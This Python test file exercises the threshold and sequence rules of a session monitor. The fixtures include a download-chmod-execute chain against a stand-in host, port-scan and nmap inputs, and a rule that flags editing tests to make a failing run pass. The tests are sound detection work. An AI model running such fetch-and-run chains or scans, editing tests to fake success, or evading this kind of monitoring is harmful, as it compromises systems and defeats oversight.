"""Thresholds and sequences over a fake clock: windows, expiry, sessions, bounds, precheck."""

from __future__ import annotations

import textwrap
import threading

from corral.events import ExecAction, NetAction
from corral.monitor import Monitor, load_text

from .helpers import Clock, Feed, feed_all, rules_of

SCAN = """
rules:
  - id: scan
    title: Port scan
    severity: high
    technique: T1046
    threshold:
      match: {kind: net}
      distinct: port
      count: 5
      within_s: 10
      group_by: [host]
  - id: burst
    title: Burst
    severity: low
    threshold:
      match: {program: curl}
      count: 3
      within_s: 5
  - id: egress
    title: Egress
    severity: medium
    threshold:
      match: {kind: net}
      sum: bytes
      total: 1000
      within_s: 60
"""

DROPPER = """
rules:
  - id: dropper
    title: Download, chmod, run
    severity: critical
    sequence:
      within_s: 300
      steps:
        - program: [curl, wget]
          args: {regex: '-o\\s*(?P<file>\\S+)'}
        - match: {program: chmod}
          bind: {file: 'argv[-1]'}
        - match: {kind: exec}
          bind: {file: runs}
  - id: recon-connect
    title: Recon then connect
    severity: high
    sequence:
      within_s: 60
      same: [host]
      steps:
        - {kind: net, port: 22}
        - {kind: net, port: 3389}
  - id: three
    title: Three steps bound per step
    severity: low
    sequence:
      within_s: 100
      bind: {p: [program, null, program]}
      steps:
        - {program: [a, b]}
        - {program: mid}
        - {program: [a, b]}
"""


def make(yaml_text: str, clock: Clock | None = None, **kw: object) -> Monitor:
    return Monitor(packs=[load_text(textwrap.dedent(yaml_text))], baseline=False, clock=clock, **kw)  # type: ignore[arg-type]


def ports(f: Feed, host: str, ports: list[int], every: float) -> list:
    out = []
    for p in ports:
        out.append(f.net(host, p))
        f.clock.advance(every)
    return out


def test_threshold_distinct_within_window_and_groups() -> None:
    m = make(SCAN)
    f = Feed()
    # 4 distinct ports: below the count
    assert "scan" not in rules_of(feed_all(m, ports(f, "h1", [1, 2, 3, 4], 1)))
    # the same port again does not count
    assert "scan" not in rules_of(feed_all(m, ports(f, "h1", [4, 4], 0.1)))
    # ports on another host are another group
    assert "scan" not in rules_of(feed_all(m, ports(f, "h2", [10], 0.1)))
    alerts = feed_all(m, ports(f, "h1", [5], 0.1))
    scan = [a for a in alerts if a.rule == "scan"]
    assert len(scan) == 1
    assert "5 distinct port values (host=h1) within 10 s" in scan[0].summary
    assert scan[0].technique == "T1046" and len(scan[0].evidence) == 5


def test_threshold_window_expires() -> None:
    m = make(SCAN)
    f = Feed()
    # five ports, but spread over more than the 10 s window
    assert "scan" not in rules_of(feed_all(m, ports(f, "h", [1, 2, 3, 4, 5, 6], 3)))
    # inside the window
    assert "scan" in rules_of(feed_all(m, ports(f, "h", [7, 8, 9, 10, 11], 0.5)))


def test_threshold_resets_after_firing() -> None:
    m = make(SCAN)
    f = Feed()
    assert "burst" in rules_of(feed_all(m, [f.exec("curl", "a") for _ in range(3)]))
    f.clock.advance(100)  # past the dedup window too
    assert "burst" not in rules_of(feed_all(m, [f.exec("curl", "a") for _ in range(2)]))
    assert "burst" in rules_of(feed_all(m, [f.exec("curl", "a")]))


def test_threshold_sum_of_bytes() -> None:
    m = make(SCAN)
    f = Feed()
    events = []
    for size in (400, 400, 400):  # completions of identical requests each count
        req = f.net("h", 443)
        events.append(f.event("action.completed", action=req.action, outcome={"bytes_out": size}))
        f.clock.advance(10)
    alerts = [a for a in feed_all(m, events) if a.rule == "egress"]
    assert len(alerts) == 1 and "bytes total 1200" in alerts[0].summary


def test_thresholds_are_per_session() -> None:
    m = make(SCAN)
    clock = Clock()
    a, b = Feed("a", clock), Feed("b", clock)
    events = []
    for p in range(1, 4):
        events += [a.net("h", p), b.net("h", p + 10)]
    assert "scan" not in rules_of(feed_all(m, events))
    assert "scan" not in rules_of(feed_all(m, [b.net("h", 20)]))
    assert rules_of(feed_all(m, [a.net("h", 4), a.net("h", 5)])) == {"scan"}


def test_sequence_with_bindings() -> None:
    m = make(DROPPER)
    f = Feed()
    alerts = feed_all(
        m,
        [
            f.exec("curl", "-o", "/tmp/x", "http://e.example/x"),
            f.exec("chmod", "+x", "/tmp/x"),
            f.exec("/tmp/x", "--run"),
        ],
    )
    (hit,) = [a for a in alerts if a.rule == "dropper"]
    assert hit.severity == "critical" and hit.response == "kill"
    assert "[file=/tmp/x]" in hit.summary
    assert len(hit.evidence) == 3 and all(e.event for e in hit.evidence)


def test_sequence_binding_mismatch_and_order() -> None:
    m = make(DROPPER)
    f = Feed()
    wrong_file = [
        f.exec("curl", "-o", "/tmp/x", "http://e/x"),
        f.exec("chmod", "+x", "/tmp/other"),
        f.exec("/tmp/other"),
    ]
    assert "dropper" not in rules_of(feed_all(m, wrong_file))
    g = Feed("s2")
    out_of_order = [
        g.exec("chmod", "+x", "/tmp/y"),
        g.exec("curl", "-o", "/tmp/y", "u"),
        g.exec("/tmp/y"),
    ]
    assert "dropper" not in rules_of(feed_all(m, out_of_order))
    # relative and absolute names of the same file bind
    h = Feed("s3")
    rel = [h.exec("wget", "-o", "log", "-O", "k"), h.exec("chmod", "755", "./k"), h.exec("sh", "k")]
    # wget -o is the log file: the capture takes it, so this chain does not bind to k
    assert "dropper" not in rules_of(feed_all(m, rel))
    h2 = Feed("s4")
    rel2 = [h2.exec("curl", "-o", "k", "u"), h2.exec("chmod", "755", "./k"), h2.exec("sh", "k")]
    assert "dropper" in rules_of(feed_all(m, rel2))


def test_sequence_window_expiry_and_sessions() -> None:
    m = make(DROPPER)
    clock = Clock()
    f = Feed("s1", clock)
    events = [f.exec("curl", "-o", "/tmp/x", "u"), f.exec("chmod", "+x", "/tmp/x")]
    clock.advance(301)
    events.append(f.exec("/tmp/x"))
    assert "dropper" not in rules_of(feed_all(m, events))
    # steps in different sessions do not chain
    a, b = Feed("a", clock), Feed("b", clock)
    split = [a.exec("curl", "-o", "/tmp/z", "u"), b.exec("chmod", "+x", "/tmp/z"), a.exec("/tmp/z")]
    assert "dropper" not in rules_of(feed_all(m, split))


def test_sequence_same_and_per_step_bind() -> None:
    m = make(DROPPER)
    f = Feed()
    other_host = [f.net("h1", 22), f.net("h2", 3389)]
    assert "recon-connect" not in rules_of(feed_all(m, other_host))
    same_host = [f.net("h3", 22), f.net("h3", 3389)]
    assert "recon-connect" in rules_of(feed_all(m, same_host))
    assert "three" not in rules_of(feed_all(m, [f.exec("a"), f.exec("mid"), f.exec("b")]))
    assert "three" in rules_of(feed_all(m, [f.exec("b"), f.exec("mid"), f.exec("b")]))


def test_sequence_inside_one_shell_script() -> None:
    m = make(DROPPER)
    f = Feed()
    alerts = feed_all(m, [f.code("curl -o /tmp/q u && chmod +x /tmp/q && /tmp/q", "shell")])
    assert "dropper" in rules_of(alerts)


def test_state_is_bounded() -> None:
    m = make(DROPPER, max_sessions=5)
    clock = Clock()
    for i in range(50):
        feed_all(m, [Feed(f"s{i}", clock).exec("curl", "-o", f"/tmp/{i}", "u")])
    assert len(m._sessions) == 5
    f = Feed("big", clock)
    for i in range(500):
        m.observe(f.exec("curl", "-o", f"/tmp/{i}", "u"))
    assert len(m._sessions["big"].partials["dropper"]) <= 64
    s = make(SCAN)
    g = Feed("g", clock)
    for i in range(2000):
        s.observe(g.net(f"h{i}", 1))
    assert len(s._sessions["g"].windows) <= 513


def test_closed_sessions_are_forgotten() -> None:
    m = make(DROPPER)
    f = Feed()
    feed_all(m, [f.exec("curl", "-o", "/tmp/x", "u")])
    assert "s1" in m._sessions
    m.observe(f.event("sandbox.closed"))
    assert "s1" not in m._sessions


def test_precheck_does_not_change_state() -> None:
    clock = Clock()
    m = make(DROPPER, clock=clock)
    f = Feed("s1", clock)
    feed_all(m, [f.exec("curl", "-o", "/tmp/x", "u"), f.exec("chmod", "+x", "/tmp/x")])
    before = list(m._sessions["s1"].partials["dropper"])
    alert = m.precheck(ExecAction(argv=["/tmp/x"]), "s1")
    assert alert is not None and alert.rule == "dropper" and alert.precheck
    assert alert.evidence[-1].event is None  # the action has not happened yet
    assert m._sessions["s1"].partials["dropper"] == before
    # the action's own event is the same alert, counted rather than raised again
    assert feed_all(m, [f.exec("/tmp/x")]) == []
    assert m.alerts("s1")[-1].count == 2


def test_precheck_of_threshold() -> None:
    clock = Clock()
    m = make(SCAN, clock=clock)
    f = Feed("s1", clock)
    feed_all(m, [f.net("h", p) for p in range(1, 5)])
    alert = m.precheck(NetAction(host="h", port=99), "s1")
    assert alert is not None and alert.rule == "scan"
    assert m.precheck(NetAction(host="other", port=99), "s1") is None
    # nothing was counted by the prechecks
    assert len(m._sessions["s1"].windows[("scan", ("h",))].items) == 4


def test_dedup_window() -> None:
    clock = Clock()
    m = Monitor(baseline=False, clock=clock, dedup_s=60)
    f = Feed("s1", clock)
    first = m.observe(f.exec("nmap", "h"))
    assert [a.rule for a in first] == ["discovery-scanner"]
    clock.advance(10)
    assert m.observe(f.exec("nmap", "h")) == []
    assert m.alerts()[0].count == 2
    clock.advance(100)
    assert [a.rule for a in m.observe(f.exec("nmap", "h"))] == ["discovery-scanner"]
    # a different command is a different alert
    assert m.observe(f.exec("nmap", "other")) != []


def test_concurrent_observers() -> None:
    m = make(SCAN)
    clock = Clock()
    errors: list[BaseException] = []

    def work(i: int) -> None:
        try:
            f = Feed(f"t{i}", clock)
            for p in range(200):
                m.observe(f.net("h", p))
        except BaseException as exc:  # pragma: no cover - reported below
            errors.append(exc)

    threads = [threading.Thread(target=work, args=(i,)) for i in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not errors
    assert {a.session for a in m.alerts() if a.rule == "scan"} == {"t0", "t1", "t2", "t3"}


def test_sequence_advanced_by_a_scripts_earlier_command() -> None:
    """A download in one call, then one script that makes the file executable and runs
    it: the script's chmod advances the sequence, and its last command (a step with no
    index hint, looked at only while a partial match waits for it) completes it."""
    m = make(DROPPER)
    f = Feed()
    assert "dropper" not in rules_of(feed_all(m, [f.exec("curl", "-o", "/tmp/q", "u")]))
    alerts = feed_all(m, [f.code("chmod +x /tmp/q && /tmp/q --go", "shell")])
    assert "dropper" in rules_of(alerts)


CAPTURE_LIST = """
rules:
  - id: copied-then-chmod
    title: Copied to /tmp then made executable
    severity: high
    sequence:
      within_s: 60
      steps:
        - program: cp
          argv: {regex: '^(?P<file>/tmp/\\S+)$'}
        - match: {program: chmod}
          bind: {file: 'argv[-1]'}
"""


def test_capture_on_a_list_field_takes_the_first_matching_element() -> None:
    m = make(CAPTURE_LIST)
    f = Feed()
    assert feed_all(m, [f.exec("cp", "a", "/tmp/z", "/tmp/w")]) == []
    assert "copied-then-chmod" not in rules_of(feed_all(m, [f.exec("chmod", "+x", "/tmp/w")]))
    assert "copied-then-chmod" in rules_of(feed_all(m, [f.exec("chmod", "+x", "/tmp/z")]))


UNLESS = """
rules:
  - id: edit-then-pass
    title: Fail, edit a test, pass
    severity: medium
    sequence:
      within_s: 100
      unless: {kind: file, op: write, path: {regex: '^/src/'}}
      steps:
        - {program: run, args: fail}
        - {kind: file, op: write, path: {regex: '^/tests/'}}
        - {program: run, args: pass}
"""


def test_sequence_unless_breaks_the_chain() -> None:
    m = make(UNLESS)
    f = Feed()
    hacked = [f.exec("run", "fail"), f.file("write", "/tests/t.py"), f.exec("run", "pass")]
    assert "edit-then-pass" in rules_of(feed_all(m, hacked))
    g = Feed("s2")
    fixed = [g.exec("run", "fail"), g.file("write", "/tests/t.py"), g.file("write", "/src/a.py"),
             g.exec("run", "pass")]  # fmt: skip
    assert "edit-then-pass" not in rules_of(feed_all(m, fixed))
    # broken before the first step, or after it: a later failing run starts afresh
    h = Feed("s3")
    again = [h.exec("run", "fail"), h.file("write", "/src/a.py"), h.exec("run", "fail"),
             h.file("write", "/tests/t.py"), h.exec("run", "pass")]  # fmt: skip
    assert "edit-then-pass" in rules_of(feed_all(m, again))
    # the chain broken in another session does not count here
    a, b = Feed("a"), Feed("b")
    split = [a.exec("run", "fail"), a.file("write", "/tests/t.py"), b.file("write", "/src/x"),
             a.exec("run", "pass")]  # fmt: skip
    assert "edit-then-pass" in rules_of(feed_all(m, split))
